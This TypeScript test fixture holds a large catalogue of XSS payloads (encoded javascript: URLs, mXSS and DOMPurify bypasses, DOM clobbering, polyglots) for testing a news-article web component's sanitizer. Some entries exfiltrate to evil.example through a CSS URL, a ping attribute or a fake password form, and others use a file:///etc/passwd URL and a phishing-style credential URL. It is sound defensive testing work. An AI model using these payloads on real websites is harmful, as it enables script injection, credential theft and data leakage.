/**
 * Hostile input for the XSS tests, shared so that element tests can run the same list through the
 * real elements: `htmlPayloads` go into HTML fields, `urlPayloads` into URL fields, and
 * `hostileArticles()` builds an article for every payload in every field. Each payload's script,
 * if it ever ran, calls `window.__xss(id)`; `installXssTrap()` records those calls.
 *
 * Usage from an element test (the lead's loop):
 *   const trap = installXssTrap();
 *   for (const { name, article } of hostileArticles()) {
 *     const el = await fixture(html`<newsprint-article .article=${article}></newsprint-article>`);
 *     await settle();
 *     expect(trap.fired, name).to.deep.equal([]);
 *     expect(auditDom(el.shadowRoot!), name).to.deep.equal([]);
 *   }
 */
import type { Article } from '../src/article/types.js';

export interface HtmlPayload {
  id: number;
  name: string;
  html: string;
}
export interface UrlPayload {
  id: number;
  name: string;
  url: string;
}

/** `{X}` becomes `window.__xss(id)`, `{PX}` becomes `parent.__xss(id)` (for framed documents). */
function arm(code: string, id: number): string {
  return code.replaceAll('{X}', `window.__xss(${id})`).replaceAll('{PX}', `parent.__xss(${id})`);
}

export const htmlPayloads: HtmlPayload[] = (
  [
    // Event handlers on many tags.
    { name: 'img onerror', html: '<img src=x onerror={X}>' },
    { name: 'img onerror, quoted, with alt', html: '<img src="x" alt="a" onerror="{X}">' },
    {
      name: 'img onload/onerror',
      html: '<img src="/test/xss-payloads.ts" onload="{X}" onerror="{X}">',
    },
    { name: 'image alias', html: '<image src=x onerror={X}>' },
    { name: 'svg onload', html: '<svg onload={X}>' },
    { name: 'svg script', html: '<svg><script>{X}</script></svg>' },
    { name: 'svg animate onbegin', html: '<svg><animate onbegin={X} attributeName=x dur=1s>' },
    { name: 'body onload', html: '<body onload={X}>' },
    { name: 'frameset onload', html: '<frameset onload={X}>' },
    { name: 'input autofocus onfocus', html: '<input autofocus onfocus={X}>' },
    { name: 'p autofocus tabindex onfocus', html: '<p tabindex=1 autofocus onfocus={X}>x</p>' },
    {
      name: 'details open ontoggle',
      html: '<details open ontoggle={X}><summary>s</summary></details>',
    },
    { name: 'video source onerror', html: '<video><source onerror={X}></video>' },
    { name: 'audio onerror', html: '<audio src=x onerror={X}></audio>' },
    { name: 'marquee onstart', html: '<marquee onstart={X}>m</marquee>' },
    {
      name: 'a onmouseover, target',
      html: '<a href="https://ok.example/" onmouseover={X} target=_blank>x</a>',
    },
    { name: 'div onclick', html: '<div onclick={X} onpointerenter={X}>x</div>' },
    { name: 'input type=image onerror', html: '<input type=image src=x onerror={X}>' },
    { name: 'isindex', html: '<isindex type=image src=1 onerror={X}>' },
    { name: 'hidden img onerror', html: '<img src=x onerror="{X}" style="display:none">' },
    { name: 'self-closing trick in attribute', html: '<img src="x" title="/>" onerror="{X}" />' },
    { name: 'unquoted backtick attribute', html: '<img src=`x` onerror=`{X}`>' },
    // Script elements.
    { name: 'script', html: '<script>{X}</script>' },
    { name: 'script src data', html: '<script src="data:text/javascript,{X}"></script>' },
    { name: 'script inside p', html: '<p>text<script>{X}</script></p>' },
    // Dangerous URL schemes in links and quotes.
    { name: 'a href javascript', html: '<a href="javascript:{X}">x</a>' },
    { name: 'a href mixed case', html: '<a href="JaVaScRiPt:{X}">x</a>' },
    { name: 'a href tab entity', html: '<a href="java&#x09;script:{X}">x</a>' },
    { name: 'a href newline entity', html: '<a href="jav&#x0A;ascript:{X}">x</a>' },
    { name: 'a href &NewLine;', html: '<a href="java&NewLine;script:{X}">x</a>' },
    { name: 'a href &colon;', html: '<a href="javascript&colon;{X}">x</a>' },
    { name: 'a href unquoted &colon;', html: '<a href=javascript&colon;{X}>x</a>' },
    { name: 'a href leading control chars', html: '<a href=" &#14;  javascript:{X}">x</a>' },
    { name: 'a href raw control char', html: '<a href="\u0001javascript:{X}">x</a>' },
    {
      name: 'a href decimal entities',
      html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{X}">x</a>',
    },
    {
      name: 'a href hex entities no semicolons',
      html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{X}">x</a>',
    },
    { name: 'a href zero-padded entities', html: '<a href="&#0000106&#0000097vascript:{X}">x</a>' },
    { name: 'a href double-encoded', html: '<a href="java&amp;#x09;script:{X}">x</a>' },
    { name: 'a href vbscript', html: '<a href="vbscript:msgbox(1)">x</a>' },
    { name: 'a href data html', html: '<a href="data:text/html,<script>{X}</script>">x</a>' },
    {
      name: 'a href data base64',
      html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    },
    {
      name: 'a href javascript with ping',
      html: '<a href="javascript:{X}" ping="https://evil.example/">x</a>',
    },
    {
      name: 'blockquote cite javascript',
      html: '<blockquote cite="javascript:{X}">q</blockquote>',
    },
    { name: 'q cite vbscript', html: '<q cite="vbscript:x">q</q>' },
    { name: 'img src javascript', html: '<img src="javascript:{X}">' },
    { name: 'img src data svg', html: '<img src="data:image/svg+xml,<svg onload=\'{X}\'/>">' },
    { name: 'img dynsrc/lowsrc', html: '<img dynsrc="javascript:{X}" lowsrc="javascript:{X}">' },
    { name: 'video poster', html: '<video poster="javascript:{X}"></video>' },
    {
      name: 'table background',
      html: '<table background="javascript:{X}"><tr><td>x</td></tr></table>',
    },
    // srcset tricks.
    { name: 'srcset javascript', html: '<img srcset="javascript:{X} 1x">' },
    {
      name: 'srcset data svg among good',
      html: '<img src="a.jpg" srcset="a.jpg 1x, data:image/svg+xml,<svg/onload={X}> 2x">',
    },
    { name: 'srcset bad + onerror', html: '<img srcset="x 1x" onerror="{X}">' },
    {
      name: 'picture source onerror',
      html: '<picture><source srcset="x" onerror={X}><img src=x onerror={X}></picture>',
    },
    // Frames, objects, plugins.
    { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>{PX}</script>"></iframe>' },
    { name: 'iframe src javascript', html: '<iframe src="javascript:{PX}"></iframe>' },
    {
      name: 'iframe src data',
      html: '<iframe src="data:text/html,<script>{PX}</script>"></iframe>',
    },
    { name: 'object data javascript', html: '<object data="javascript:{PX}"></object>' },
    {
      name: 'object data html',
      html: '<object data="data:text/html,<script>{PX}</script>"></object>',
    },
    { name: 'embed src', html: '<embed src="javascript:{PX}">' },
    { name: 'embed data', html: '<embed src="data:text/html,<script>{PX}</script>">' },
    // Forms.
    { name: 'form action', html: '<form action="javascript:{X}"><button>go</button></form>' },
    { name: 'button formaction', html: '<button formaction="javascript:{X}">go</button>' },
    {
      name: 'spoofed login form',
      html: '<form action="https://evil.example/"><input name=password type=password><button>Sign in</button></form>',
    },
    // mXSS: parser-context confusion.
    { name: 'mXSS noscript', html: '<noscript><p title="</noscript><img src=x onerror={X}>">' },
    { name: 'mXSS template', html: '<template><img src=x onerror={X}></template>' },
    { name: 'mXSS svg style', html: '<svg><style><img src=x onerror={X}></style></svg>' },
    { name: 'mXSS textarea', html: '<textarea><img title="</textarea><img src=x onerror={X}>">' },
    { name: 'mXSS title', html: '<title><img title="</title><img src=x onerror={X}>">' },
    { name: 'mXSS xmp', html: '<xmp><img title="</xmp><img src=x onerror={X}>">' },
    { name: 'mXSS style', html: '<style><img title="</style><img src=x onerror={X}>"></style>' },
    { name: 'mXSS svg p style', html: '<svg></p><style><a id="</style><img src=1 onerror={X}>">' },
    {
      name: 'MathML mglyph style',
      html: '<math><mtext><table><mglyph><style><img src=x onerror={X}>',
    },
    {
      name: 'MathML form nesting (DOMPurify 2.0.0 bypass)',
      html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror={X}>',
    },
    {
      name: 'MathML textarea path',
      html: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={X} src=1>">',
    },
    { name: 'MathML href', html: '<math href="javascript:{X}">CLICKME</math>' },
    {
      name: 'svg xlink:href',
      html: '<svg><a xlink:href="javascript:{X}"><text x=20 y=20>x</text></a></svg>',
    },
    {
      name: 'svg foreignObject',
      html: '<svg><foreignObject><img src=x onerror={X}></foreignObject></svg>',
    },
    {
      name: 'svg use data',
      html: "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{X}'/></svg>#x\"/></svg>",
    },
    { name: 'comment breakout', html: '<!-- --!><img src=x onerror={X}>-->' },
    { name: 'comment hidden img', html: '<p><!--<img src=x onerror={X}>--></p>' },
    { name: 'CDATA', html: '<![CDATA[><img src=x onerror={X}>]]>' },
    { name: 'processing instruction', html: '<?xml-stylesheet > <img src=x onerror={X}> ?>' },
    {
      name: 'declarative shadow root',
      html: '<div><template shadowrootmode="open"><img src=x onerror={X}></template></div>',
    },
    {
      name: 'select template style',
      html: '<select><template><style><img src=x onerror={X}></style></template></select>',
    },
    // DOM clobbering.
    { name: 'form name=getElementById', html: '<form name=getElementById></form>' },
    { name: 'img name=getElementById', html: '<img name=getElementById src=x>' },
    { name: 'img name=cookie id=x', html: '<img name="cookie" id="x" src="a.jpg">' },
    { name: 'a id=defaultView', html: '<a id="defaultView" href="https://ok.example/">x</a>' },
    {
      name: 'form/input attributes',
      html: '<form id="f"><input name="attributes"><input name="nodeName"></form>',
    },
    // CSS.
    { name: 'style @import javascript', html: "<style>@import 'javascript:{X}';</style>" },
    {
      name: 'style exfiltration',
      html: '<style>*{background:url("https://evil.example/leak")}</style><p>x</p>',
    },
    { name: 'style attribute url', html: '<p style="background:url(javascript:{X})">x</p>' },
    { name: 'style expression', html: '<div style="width: expression({X})">x</div>' },
    {
      name: 'style spoofing overlay',
      html: '<p style="position:fixed;inset:0;z-index:99999">Login</p>',
    },
    { name: 'link rel=stylesheet', html: '<link rel=stylesheet href="javascript:{X}">' },
    {
      name: 'link rel=import',
      html: '<link rel=import href="data:text/html,<script>{PX}</script>">',
    },
    // Document-level.
    { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:{X}">' },
    { name: 'base href', html: '<base href="javascript:{X}//"><a href="x">x</a>' },
    // Our own UI.
    { name: 'slot', html: '<slot name="headline"></slot><span slot="headline">spoof</span>' },
    { name: 'class matching our UI', html: '<p class="error headline">spoof</p>' },
    { name: 'part for host styling', html: '<p part="base">spoof</p>' },
    {
      name: 'nested newsprint element',
      html: '<newsprint-article src="https://evil.example/a.json"></newsprint-article>',
    },
    { name: 'custom element with handler', html: '<x-widget onclick={X}>x</x-widget>' },
    { name: 'is attribute', html: '<p is="x-foo" onclick={X}>x</p>' },
    {
      name: 'aria relabelling',
      html: '<p role="button" aria-label="Close" aria-hidden="true">x</p>',
    },
    // Polyglots.
    {
      name: 'polyglot (0xsobky)',
      html: 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk={X} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={X}//>\\x3e',
    },
    {
      name: 'polyglot (attribute and tag breakout)',
      html: '\'"--></style></script></textarea></title><svg/onload={X}><img src=x onerror={X}>',
    },
    { name: 'javascript url as text', html: 'javascript:{X}' },
  ] satisfies Array<Omit<HtmlPayload, 'id'>>
).map(({ name, html }, index) => ({ id: index + 1, name, html: arm(html, index + 1) }));

/** URLs that the URL policy must refuse, in every URL field and srcset. */
export const urlPayloads: UrlPayload[] = (
  [
    { name: 'javascript', url: 'javascript:{X}' },
    { name: 'javascript mixed case', url: 'JaVaScRiPt:{X}' },
    { name: 'javascript leading space', url: '   javascript:{X}' },
    { name: 'javascript leading control', url: '\u0001\u0002javascript:{X}' },
    { name: 'javascript NUL inside', url: 'java\u0000script:{X}' },
    { name: 'javascript tab inside', url: 'java\tscript:{X}' },
    { name: 'javascript newline inside', url: 'java\nscript:{X}' },
    { name: 'javascript CR inside', url: 'java\rscript:{X}' },
    { name: 'javascript tab entity', url: 'java&#x09;script:{X}' },
    { name: 'javascript decimal tab entity', url: 'java&#9;script:{X}' },
    { name: 'javascript &Tab;', url: 'java&Tab;script:{X}' },
    { name: 'javascript &colon;', url: 'javascript&colon;{X}' },
    {
      name: 'javascript entity letters',
      url: '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{X}',
    },
    {
      name: 'javascript hex entities',
      url: '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{X}',
    },
    { name: 'javascript double-encoded', url: 'javascript&amp;colon;{X}' },
    { name: 'javascript zero-width space', url: 'java\u200bscript:{X}' },
    { name: 'javascript no-break space', url: '\u00a0javascript:{X}' },
    { name: 'vbscript', url: 'vbscript:msgbox(1)' },
    { name: 'data html', url: 'data:text/html,<script>{X}</script>' },
    { name: 'data svg', url: 'data:image/svg+xml,<svg onload="{X}"/>' },
    { name: 'data png', url: 'data:image/png;base64,iVBORw0KGgo=' },
    { name: 'blob', url: 'blob:https://news.example/0b5a3f8e-1d4c-4c1e-9d1a-1a2b3c4d5e6f' },
    { name: 'file', url: 'file:///etc/passwd' },
    { name: 'about', url: 'about:blank' },
    { name: 'filesystem', url: 'filesystem:https://news.example/temporary/x' },
    { name: 'view-source', url: 'view-source:https://news.example/' },
    { name: 'mailto', url: 'mailto:editor@news.example' },
    { name: 'ftp', url: 'ftp://news.example/file' },
    { name: 'ws', url: 'wss://news.example/socket' },
    { name: 'intent', url: 'intent://scan/#Intent;scheme=zxing;end' },
    { name: 'credentials (phishing)', url: 'https://bank.example@evil.example/' },
    { name: 'absurdly long', url: `https://news.example/${'a'.repeat(2100)}` },
    { name: 'empty', url: '' },
    { name: 'whitespace only', url: ' \t\n ' },
  ] satisfies Array<Omit<UrlPayload, 'id'>>
).map(({ name, url }, index) => ({ id: 1000 + index, name, url: arm(url, 1000 + index) }));

/** Benign article markup and exactly what must come out of it (no URLs: those get resolved). */
export const benignHtml = {
  name: 'benign article markup',
  html:
    '<h2>Heading two</h2><p>A <em>short</em> <strong>paragraph</strong> with <b>bold</b>, <i>italic</i>, ' +
    '<u>u</u>, <s>struck</s>, <small>small</small>, H<sub>2</sub>O, x<sup>2</sup>, <mark>marked</mark>, ' +
    '<q>a quote</q>, <cite>a work</cite>, <abbr title="World Health Organization">WHO</abbr>, ' +
    '<code>code</code>, <span lang="es">hola</span>, <time datetime="2026-01-26">Jan 26</time>.<br>Next line.</p>' +
    '<h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>' +
    '<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>' +
    '<blockquote><p dir="rtl" lang="ar">مرحبا</p></blockquote><hr><pre>pre  formatted</pre>' +
    '<p><del>wrong</del> <ins>right</ins></p>',
};

export const HTML_FIELDS = ['body', 'faq.items[0].answer'] as const;
export const URL_FIELDS = [
  'url',
  'image.src',
  'image.srcset',
  'authors[0].url',
  'authors[0].image',
  'publisher.url',
  'publisher.logo',
] as const;
export type HostileField = (typeof HTML_FIELDS)[number] | (typeof URL_FIELDS)[number];

/** A complete, valid article with one field replaced by `value`. */
export function articleWith(field: HostileField, value: string): Article {
  const article: Article = {
    headline: 'Headline',
    url: 'https://news.example/story.html',
    authors: [{ name: 'A. Writer', url: 'https://news.example/a-writer', image: 'writer.jpg' }],
    publisher: { name: 'Publisher', url: 'https://news.example/', logo: 'logo.png' },
    image: { src: 'photo.jpg', alt: 'A photo', srcset: 'photo.jpg 1x, photo@2x.jpg 2x' },
    body: '<p>Body.</p>',
    faq: { items: [{ question: 'Question?', answer: '<p>Answer.</p>' }] },
  };
  switch (field) {
    case 'body':
      article.body = value;
      break;
    case 'faq.items[0].answer':
      article.faq!.items[0].answer = value;
      break;
    case 'url':
      article.url = value;
      break;
    case 'image.src':
      article.image!.src = value;
      break;
    case 'image.srcset':
      article.image!.srcset = value;
      break;
    case 'authors[0].url':
      article.authors![0].url = value;
      break;
    case 'authors[0].image':
      article.authors![0].image = value;
      break;
    case 'publisher.url':
      article.publisher!.url = value;
      break;
    case 'publisher.logo':
      article.publisher!.logo = value;
      break;
  }
  return article;
}

export interface HostileArticle {
  name: string;
  payloadId: number;
  field: HostileField;
  article: Article;
}

/**
 * Every payload in every field where it applies: HTML payloads in HTML fields and (as strings that
 * must still come out harmless) in URL fields; URL payloads in URL fields and as link targets in
 * HTML fields.
 */
export function hostileArticles(): HostileArticle[] {
  const out: HostileArticle[] = [];
  for (const payload of htmlPayloads) {
    for (const field of [...HTML_FIELDS, ...URL_FIELDS]) {
      out.push({
        name: `${payload.name} in ${field}`,
        payloadId: payload.id,
        field,
        article: articleWith(field, payload.html),
      });
    }
  }
  for (const payload of urlPayloads) {
    for (const field of URL_FIELDS) {
      out.push({
        name: `${payload.name} URL in ${field}`,
        payloadId: payload.id,
        field,
        article: articleWith(field, payload.url),
      });
    }
    const asLink = `<p><a href="${payload.url.replaceAll('"', '&quot;')}">link</a><img src="${payload.url.replaceAll('"', '&quot;')}" alt=""></p>`;
    for (const field of HTML_FIELDS) {
      out.push({
        name: `${payload.name} URL as link in ${field}`,
        payloadId: payload.id,
        field,
        article: articleWith(field, asLink),
      });
    }
  }
  return out;
}

declare global {
  interface Window {
    __xss?: (id: number) => void;
  }
}

/** Records every `window.__xss(id)` call; `fired` lists the ids. */
export function installXssTrap(): { fired: number[]; uninstall(): void } {
  const trap = {
    fired: [] as number[],
    uninstall() {
      delete window.__xss;
    },
  };
  window.__xss = (id: number) => {
    trap.fired.push(id);
  };
  return trap;
}

/**
 * A few animation frames and then `ms` milliseconds, for onload/onerror/ontoggle to have run. A
 * page in a background tab gets no frames, so each frame also gives up after 50 ms.
 */
export async function settle(ms = 50): Promise<void> {
  for (let i = 0; i < 3; i++) {
    await new Promise((resolve) => {
      requestAnimationFrame(resolve);
      setTimeout(resolve, 50);
    });
  }
  await new Promise((resolve) => setTimeout(resolve, ms));
}

/** The `<img>`s under `roots` that match `selector`, inside nested shadow roots too. */
function imagesIn(roots: Iterable<ParentNode>, selector: string): HTMLImageElement[] {
  const found: HTMLImageElement[] = [];
  const walk = (root: ParentNode): void => {
    for (const element of root.querySelectorAll('*')) {
      if (element instanceof HTMLImageElement && element.matches(selector)) found.push(element);
      if (element.shadowRoot) walk(element.shadowRoot);
    }
  };
  for (const root of roots) walk(root);
  return found;
}

/**
 * Waits until every image of sanitized HTML (`selector`) under `roots` has loaded or failed, then
 * for the events that follow:
 * a negative check ("no handler ran") then means something even on a slow machine, where a fixed
 * wait could end before a late 404 fires `onerror`. Lazy images are made eager first: off-screen
 * or in a background tab they would never load, and their handlers never get a chance.
 */
export async function afterImagesSettle(
  roots: Iterable<ParentNode>,
  selector: string,
  timeout = 10_000,
): Promise<void> {
  const images = imagesIn(roots, selector);
  for (const image of images) image.loading = 'eager';
  const deadline = performance.now() + timeout;
  while (images.some((image) => !image.complete)) {
    if (performance.now() > deadline) throw new Error('images did not finish loading in time');
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  await settle(50);
}

/**
 * The contract of sanitized HTML (docs/ARCHITECTURE.md, "Safety"): what may appear in data-made
 * DOM.
 */
export const ALLOWED_TAGS = new Set(
  'p div h2 h3 h4 h5 h6 ul ol li blockquote figure figcaption pre hr br a em strong b i u s small sub sup mark q cite abbr code span time del ins img'.split(
    ' ',
  ),
);
export const ALLOWED_ATTRIBUTES = new Set(
  'href src alt title width height srcset sizes datetime cite lang dir rel loading decoding'.split(
    ' ',
  ),
);
const URL_ATTRIBUTES = ['href', 'src', 'cite'];
/**
 * An absolute http(s) URL as the URL serializer writes it: no whitespace, `"`, `<`, `>` or backtick
 * (percent-encoded). `'` may remain in a path; it is harmless in an attribute set through the DOM.
 */
const HARMLESS_URL = /^https?:\/\/[^\s"<>`\\]+$/;

/** Every URL in a srcset is an absolute http(s) URL with a valid descriptor. */
export function isHarmlessSrcset(srcset: string): boolean {
  return srcset
    .split(/,\s+/)
    .every((candidate) => /^https?:\/\/\S+(?: (?:\d+w|\d+(?:\.\d+)?x))?$/.test(candidate));
}

/** Whether a URL that left the URL policy is one a browser can only load over http(s). */
export function isHarmlessUrl(url: string): boolean {
  return HARMLESS_URL.test(url);
}

/**
 * Problems in data-made DOM under `root`: elements or attributes outside the allow-list, any event
 * handler, style, id, name, class or slot, any URL that is not absolute http(s). Empty = clean.
 * Pass `allowAll: true` for the element's own UI, where only handlers and URLs are checked.
 * Images carry the element's own `referrerpolicy` (`referrerPolicy`, by default the elements'
 * default); data can set none, so any other value is a problem.
 */
export function auditDom(
  root: ParentNode,
  { allowAll = false, referrerPolicy = 'strict-origin-when-cross-origin' } = {},
): string[] {
  const problems: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.localName;
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
      problems.push(`<${tag}> in ${element.namespaceURI}`);
    if (!allowAll && !ALLOWED_TAGS.has(tag)) problems.push(`<${tag}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      if (name.startsWith('on')) problems.push(`<${tag} ${name}>`);
      // DOMPurify empties `is` instead of removing it: Chromium keeps an element's is-value and
      // serializes it anyway. An empty name can never match a custom element, so it is inert.
      else if (name === 'is' && value === '') continue;
      else if (tag === 'img' && name === 'referrerpolicy') {
        if (value !== referrerPolicy) problems.push(`<img referrerpolicy="${value}">`);
      } else if (!allowAll && !ALLOWED_ATTRIBUTES.has(name)) problems.push(`<${tag} ${name}>`);
      if (URL_ATTRIBUTES.includes(name) && !isHarmlessUrl(value))
        problems.push(`<${tag} ${name}="${value}">`);
      if (name === 'srcset' && !isHarmlessSrcset(value))
        problems.push(`<${tag} srcset="${value}">`);
    }
    if (tag === 'a' && element.hasAttribute('href')) {
      const external = new URL(element.getAttribute('href')!).origin !== location.origin;
      if (external && element.getAttribute('rel') !== 'noopener noreferrer ugc')
        problems.push(`<a> to another origin without rel`);
    }
  }
  return problems;
}
